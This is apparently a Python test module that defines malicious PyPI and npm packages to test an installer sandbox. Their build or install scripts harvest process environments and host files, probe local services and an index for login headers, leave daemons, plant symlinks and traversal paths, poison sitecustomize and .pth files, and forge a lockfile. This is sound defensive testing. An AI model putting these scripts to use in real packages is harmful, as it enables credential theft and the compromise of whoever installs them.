"""Packages that attack: what their build scripts look for and leave, what they put into a layer and into archives,
what a requirement orders an installer to do, what an index sends."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from tests.attacks.row import BREACH, Row, Scene, Shelf, filled
from tests.standins.index import Index, drip, instead
from tests.standins.wheels import Links, Package, sdist, tarball, wheel

PYTHON_TWIN = "import benign\nprint('FINE')"
NODE_TWIN = "console.log(require('benign').version ? 'FINE' : 'NO')"
BENIGN = ("benign",)
LOOK = """
import NAME, os
from aids import *
with open(os.path.join(os.path.dirname(NAME.__file__), "loot"), "rb") as file:
    loot = file.read()
search(loot)
if b"BREACH" in loot:
    breach("the build script has done it")
print("HELD")
"""
"""What the build script brought home."""
TELL = """
import NAME, os
with open(os.path.join(os.path.dirname(NAME.__file__), "loot"), "rb") as file:
    print(file.read(900_000).decode("latin-1"))
print("HELD")
"""
NODE_LOOK = """
const loot = require("fs").readFileSync(require.resolve("NAME/package.json").replace("package.json", "loot"), "latin1");
console.log(loot.slice(0, 20000));
console.log("HELD");
"""


def built(name: str, script: str, files: Mapping[str, str] | None = None) -> Shelf:
    """A source distribution whose build runs this; `loot` is what it takes along."""
    ran = "loot = []\n" + script + f"\nentries['{name}/loot'] = b'\\n'.join(loot)"

    def shelf(places: Mapping[str, str]) -> Sequence[Package]:
        return [sdist(name, files=files, script=f"exec({filled(ran, places)!r}, {{'entries': entries}})")]

    return shelf


def made_by(name: str, script: str) -> Shelf:
    """An npm package that runs this when it is installed."""

    def shelf(places: Mapping[str, str]) -> Sequence[Package]:
        files = {"index.js": "module.exports = 1", "x.js": filled(script, places)}
        return [tarball(name, files=files, package={"scripts": {"install": "node x.js"}})]

    return shelf


def these(*packages: Package) -> Shelf:
    return lambda places: packages


def named(name: str, program: str) -> str:
    return program.replace("NAME", name)


FILES_OF_THE_HOST = """
import glob, os
paths = glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline')
for path in [*paths, '@HOST_FILE@', '@OPEN_FILE@', '@DATA_FILE@']:
    try:
        with open(path, 'rb') as file:
            loot.append(file.read(1 << 20))
    except OSError:
        continue
loot.append(repr(dict(os.environ)).encode())
"""
SERVICES_OF_THE_HOST = """
import socket
def greeted(family, address):
    with socket.socket(family) as client:
        client.settimeout(2)
        try:
            client.connect(address)
            return client.recv(64)
        except OSError:
            return b''
for family, address in [(2, ('127.0.0.1', @TCP@)), (10, ('::1', @TCP6@)), (1, '\\0@ABSTRACT@'), (1, '@SOCKET@')]:
    if b'welcome' in greeted(family, address):
        loot.append(b'BREACH')
"""
DAEMON = """
import os, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (1, 2, 15):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 64)
        os.execv('/bin/sleep', ['sleep', '40'])
    os._exit(0)
os.wait()
"""
LINK = """
import os
os.makedirs('@TARGET@', exist_ok=True)
os.symlink('@HOST_FILE@', '@TARGET@/mallory_link_evil')
"""
LOGIN = """
import glob, os, urllib.request
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        with open(path, 'rb') as file:
            loot.append(file.read(1 << 20))
    except OSError:
        continue
for root, _, names in os.walk(os.environ.get('HOME', '/')):
    for name in names[:200]:
        if not name.endswith('.whl'):
            with open(os.path.join(root, name), 'rb') as file:
                loot.append(file.read(1 << 16))
for page in ('/', '/pypi/simple/benign/', '/pypi/simple/nobody/', '/npm/benign', '/files/0/x'):
    try:
        with urllib.request.urlopen('http://127.0.0.1:8000' + page, timeout=2) as answer:
            loot.append(str(answer.headers).encode() + answer.read())
    except urllib.error.HTTPError as wrong:
        loot.append(str(wrong.headers).encode() + wrong.read())
    except OSError:
        continue
"""
HOG = "hog = [bytearray(1 << 20) for _ in range(400)]"
HIJACK = "print('BREACH')\n"
POISON = {
    "mallory_poison/__init__.py": "",
    "sitecustomize.py": HIJACK,
    "usercustomize.py": HIJACK,
    "mallory_poison.pth": "import os; os.write(1, b'BREACH')\n",
    "json.py": HIJACK,
    "bin/ls": "#!/bin/sh\necho BREACH\n",
    "mallory_poison-1.0.data/scripts/uname": "#!/bin/sh\necho BREACH\n",
}
EVIL = {"mallory_hash/__init__.py": "print('BREACH')\n", "mallory_hash/filler": "x" * 10}
FORGED_LOCK = """
const fs = require("fs");
for (const name of ["mallory-lock/../benign-lock", "benign-lock"]) {
  fs.mkdirSync(`@NODE_TARGET@/${name}`, { recursive: true });
  fs.writeFileSync(`@NODE_TARGET@/${name}/package.json`, '{"name": "benign-lock", "version": "1.0.0"}');
  fs.writeFileSync(`@NODE_TARGET@/${name}/index.js`, "console.log('BREACH'); module.exports = {version: '1.0.0'}");
}
const lock = "@NODE_TARGET@/../package-lock.json", forged = @FORGED@;
const again = `const fs = require("fs"); setInterval(() => { try {
  fs.writeFileSync("${lock}.new", process.argv[1]); fs.renameSync("${lock}.new", "${lock}");
} catch {} }, 5); setTimeout(() => process.exit(), 4000)`;
if (process.env.npm_execpath) {
  require("child_process").spawn(process.execPath, ["-e", again, forged], { detached: true, stdio: "ignore" }).unref();
  while (!fs.existsSync(lock)) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10);
}
"""


def forged_lock(places: Mapping[str, str]) -> Sequence[Package]:
    """It puts its own files behind the lock of another list, which a process that it leaves writes again and again."""
    benign = tarball("benign-lock")
    about = f'{{"version": "1.0.0", "integrity": "{benign.integrity}"}}'
    lock = f'{{"packages": {{"": {{}}, "node_modules/benign-lock": {about}}}}}'
    return [benign, *made_by("mallory-lock", FORGED_LOCK)({**places, "FORGED": repr(lock)})]


def wrong_wheel(index: Index) -> None:
    [honest] = index.of("pypi", "mallory-hash")
    index.files.behave(index.path(honest), instead(wheel("mallory-hash", files=EVIL).data))


def wrong_tarball(index: Index) -> None:
    [honest] = index.of("npm", "mallory-hash")
    evil = tarball("mallory-hash", files={"index.js": "console.log('BREACH')"})
    index.files.behave(index.path(honest), instead(evil.data))


def no_login_at_the_host_of_files(scene: Scene) -> None:
    told = [asked.target for asked in scene.files_asked if "authorization" in asked.headers]
    assert not told, f"the login went to the host of the files too: {told}"


def nothing_ran(scene: Scene) -> None:
    assert BREACH not in scene.out


def not_there(scene: Scene) -> None:
    """Neither the attacker's package nor anything of it is on the other's path."""
    assert "mallory" not in scene.later, scene.later


def imports(name: str) -> str:
    return f"import {name.replace('-', '_')}\nprint('HELD')"


WRITES = """
import NAME, os
from aids import *
path, folder = NAME.__file__, os.path.dirname(NAME.__file__)
attempt("appending", lambda: open(path, "a"))
attempt("making it writable", os.chmod, path, 0o777)
attempt("removing", os.unlink, path)
attempt("renaming", os.rename, folder, folder + "-old")
attempt("a file beside it", lambda: open(folder + "/more.py", "w"))
attempt("a folder beside the packages", os.mkdir, os.path.dirname(folder) + "/json")
MS_REMOUNT_BIND = 0x1020
attempt("mounting it writable", lambda: checked(libc.mount(b"", b"/packages", b"", MS_REMOUNT_BIND, None)))
print("HELD")
"""
FOR_WHOEVER_COMES_NEXT = """
import os, subprocess, sys
for command in ([sys.executable, "-c", "import json; print(json.__file__)"], ["ls", "-d", "/"], ["uname"]):
    print(subprocess.run(command, capture_output=True, text=True).stdout)
print([name for folder in sys.path if os.path.isdir(folder) for name in os.listdir(folder) if "mallory" in name])
"""


def python(name: str, **told: object) -> Row:
    return Row(**{"family": "packages", "name": name, "twin": PYTHON_TWIN, "twin_requires": BENIGN, **told})  # type: ignore[arg-type]


def node(name: str, **told: object) -> Row:
    return python(name, **{"language": "node", "twin": NODE_TWIN, **told})


EITHER = ("completed", "install_failed")
ROWS = (
    python(
        "a build script that takes the server's secrets and the host's files",
        shelf=built("mallory_env", FILES_OF_THE_HOST),
        requires=("mallory_env",),
        attack=named("mallory_env", LOOK),
    ),
    python(
        "a build script that asks services of the host",
        shelf=built("mallory_net", SERVICES_OF_THE_HOST),
        requires=("mallory_net",),
        attack=named("mallory_net", LOOK),
    ),
    python(
        "a build script that looks for the login of the index",
        shelf=built("mallory_login", LOGIN),
        requires=("mallory_login",),
        attack=named("mallory_login", TELL),
        judge=no_login_at_the_host_of_files,
    ),
    python(
        "a daemon that a build script leaves behind",
        shelf=built("mallory_daemon", DAEMON),
        requires=("mallory_daemon",),
        attack=imports("mallory_daemon"),
    ),
    python(
        "a build script that takes four hundred megabytes",
        shelf=built("mallory_hog", HOG),
        requires=("mallory_hog",),
        attack="print('BREACH')",
        ends=("install_failed",),
    ),
    python(
        "a build script that links a file of the host into the layer",
        shelf=built("mallory_link", LINK),
        requires=("mallory_link",),
        attack="""
import os, sys
from aids import *
for folder in filter(os.path.isdir, sys.path):
    for name in os.listdir(folder):
        if "evil" in name:
            search(read(os.path.join(folder, name)))
            breach("the link was kept")
print("HELD")
""",
        ends=("install_failed",),
    ),
    python(
        "a package rewritten by the code that has it",
        shelf=these(wheel("mallory_writes")),
        requires=("mallory_writes",),
        attack=named("mallory_writes", WRITES),
    ),
    python(
        "a package that runs for whoever comes next",
        shelf=these(wheel("mallory_poison", files=POISON)),
        requires=("mallory_poison",),
        attack=imports("mallory_poison"),
        later=FOR_WHOEVER_COMES_NEXT + "assert 'mallory' not in str(sys.path), 'BREACH'",
        later_requires=BENIGN,
        twin="print('FINE')",
        twin_requires=(),
        judge=not_there,
    ),
    python(
        "a file that is not what its hash says",
        shelf=these(wheel("mallory-hash")),
        stock=wrong_wheel,
        requires=("mallory-hash",),
        attack=imports("mallory-hash"),
        ends=("install_failed",),
        judge=nothing_ran,
    ),
    python(
        "a package of a private index, found by its name without the login",
        shelf=these(wheel("private_of_another")),
        requires=("private_of_another",),
        index="@OPEN_INDEX@",
        attack="print('BREACH')",
        ends=("install_failed",),
        twin="import private_of_another\nprint('FINE')",
        twin_requires=("private_of_another",),
    ),
    python(
        "a requirement that names another index",
        refused=("--index-url=http://127.0.0.1:@TCP@/", "benign\n--index-url=http://127.0.0.1:@TCP@/"),
        requires=BENIGN,
        attack="print('HELD')",
    ),
    python(
        "a requirement that reads a file of the host",
        refused=("-r @HOST_FILE@", "benign @ file://@HOST_FILE@", "@HOST_FILE@", "./benign", "-e ."),
        requires=BENIGN,
        attack="print('HELD')",
    ),
    python(
        "a wheel whose names go up and out",
        shelf=these(
            wheel("mallory_up", files={"mallory_up/__init__.py": "", "../evil-up": "x", "../../../evil-up": "x"})
        ),
        requires=("mallory_up",),
        attack=imports("mallory_up"),
        ends=EITHER,
    ),
    python(
        "a wheel and a source distribution whose names begin at the root",
        shelf=lambda places: [
            wheel("mallory_root", files={"mallory_root/__init__.py": "", places["DATA"] + "/evil-root": "x"}),
            sdist("mallory_source", extra={places["DATA"] + "/evil-source": "x", "../../evil-source": "x"}),
        ],
        requires=("mallory_root",),
        attack=imports("mallory_root"),
        ends=EITHER,
    ),
    python(
        "a wheel with a link and a file that goes through it",
        shelf=lambda places: [
            wheel(
                "mallory_through",
                links=Links(symbolic={"mallory_through/out": places["DATA"]}),
                after={"mallory_through/out/evil-through": "x"},
            )
        ],
        requires=("mallory_through",),
        attack=imports("mallory_through"),
        ends=EITHER,
    ),
    python(
        "a package of more bytes than a layer may have",
        shelf=these(
            wheel(
                "mallory_bomb",
                files={"mallory_bomb/__init__.py": ""} | {f"mallory_bomb/{n}": b"\0" * (1 << 20) for n in range(20)},
            )
        ),
        requires=("mallory_bomb",),
        attack="print('BREACH')",
        ends=("install_failed",),
    ),
    python(
        "an index that drips",
        shelf=these(wheel("mallory_drip")),
        stock=lambda index: index.behave("/simple/mallory_drip/", drip) or index.behave("/simple/mallory-drip/", drip),
        requires=("mallory_drip",),
        attack="print('BREACH')",
        limit=2,
        tight=True,
        ends=("install_failed",),
    ),
    node(
        "an install script that takes the server's secrets and the host's files",
        shelf=made_by(
            "mallory-env",
            """
const fs = require("fs"), loot = [JSON.stringify(process.env)];
const pids = fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name));
const paths = pids.flatMap((pid) => [`/proc/${pid}/environ`, `/proc/${pid}/cmdline`]);
for (const path of [...paths, "@HOST_FILE@", "@OPEN_FILE@", "@DATA_FILE@"])
  try { loot.push(fs.readFileSync(path, "latin1")) } catch {}
fs.writeFileSync("loot", loot.join("\\n"));
""",
        ),
        requires=("mallory-env",),
        attack=named("mallory-env", NODE_LOOK),
    ),
    node(
        "a lock that is forged to be another list's",
        shelf=forged_lock,
        requires=("mallory-lock",),
        attack="console.log('HELD')",
        later="console.log(require('benign-lock').version)",
        later_requires=("benign-lock",),
    ),
    node(
        "a tarball that is not what its hash says",
        shelf=these(tarball("mallory-hash")),
        stock=wrong_tarball,
        requires=("mallory-hash",),
        attack="require('mallory-hash'); console.log('HELD')",
        ends=("install_failed",),
    ),
    node(
        "a tarball whose names go up, and links that lead out",
        shelf=lambda places: [
            tarball(
                "mallory-links",
                links=Links(symbolic={"package/evil": places["HOST_FILE"], "package/out": places["DATA"]}),
                extra={"../../evil-tar": "x", "package/../../../evil-tar": "x", places["DATA"] + "/evil-tar": "x"},
            )
        ],
        requires=("mallory-links",),
        attack="""
const fs = require("fs"), path = require("path");
const folder = path.dirname(require.resolve("mallory-links/package.json"));
for (const name of fs.readdirSync(folder))
  if (name === "evil") { console.log("BREACH", fs.readFileSync(path.join(folder, name), "latin1")) }
console.log("HELD");
""",
        ends=EITHER,
    ),
)
